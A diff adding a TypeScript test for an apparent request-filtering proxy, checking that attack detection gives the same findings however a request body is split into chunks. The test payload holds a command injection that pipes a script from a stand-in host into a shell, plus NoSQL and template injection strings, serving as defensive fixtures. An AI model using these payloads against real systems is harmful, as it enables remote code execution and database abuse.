@@ -59,3 +59,22 @@ test("leaks in a successful JSON response are looked for under error-like keys (
     assert.equal(evidence(p)[0]?.counts["leak.stack_trace:alert"] ?? 0, expected, JSON.stringify(doc));
   }
 });
+
+// A payload split by a chunk boundary must be judged whole: segmented values (text bodies, gRPC strings over
+// a chunk) go to the attack detectors in fixed windows of the decoded value, not per segment. Found by the
+// long fuzz run ("evidence depends on chunking"); before, splitting the payload was an evasion.
+test("text body: the same attack findings for every split of the payload across two chunks", () => {
+  const ALERT = `version: 1\nenable: ["attack.*"]\nrules:\n  - { detectors: ["attack.*"], action: alert }\n`;
+  const body = Buffer.from("note: please run $(curl evil.sh|sh) and {\"$where\": \"sleep(1000)\"} {{7*7}}");
+  const verdict = (chunkSize: number) => {
+    const p = loadFilter(ALERT);
+    const s = p.newStream();
+    s.sendRequest({ headers: { ":method": "POST", ":path": "/notes", ":authority": "api", "content-type": "text/plain" }, body, chunkSize });
+    s.sendResponse({ headers: { ":status": "204" } });
+    const ev = evidence(p);
+    return ev.length ? JSON.stringify(ev[0].counts) : "{}";
+  };
+  const whole = verdict(body.length);
+  assert.match(whole, /attack\.command_injection/);
+  for (let c = 1; c < body.length; c += 3) assert.equal(verdict(c), whole, `chunk size ${c}`);
+});
